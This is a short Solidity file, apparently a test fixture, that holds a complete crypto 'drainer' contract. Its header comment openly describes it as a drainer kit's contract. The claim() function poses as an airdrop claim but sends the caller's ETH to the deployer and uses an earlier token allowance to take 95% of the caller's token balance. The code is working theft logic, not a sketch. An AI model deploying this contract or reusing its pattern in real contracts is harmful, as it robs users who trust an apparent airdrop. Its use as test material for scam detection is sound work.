// SPDX-License-Identifier: MIT
// Test-only: a drainer kit's contract. claim() looks like an airdrop claim; it takes the ETH sent
// with it and 95% of the caller's tokens through an allowance granted earlier.
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

contract Drainer {
    address payable private immutable owner;
    IERC20 private immutable token;

    constructor(IERC20 token_) {
        owner = payable(msg.sender);
        token = token_;
    }

    function claim() external payable {
        uint256 take = token.balanceOf(msg.sender) * 95 / 100;
        token.transferFrom(msg.sender, owner, take);
        owner.transfer(msg.value);
    }
}
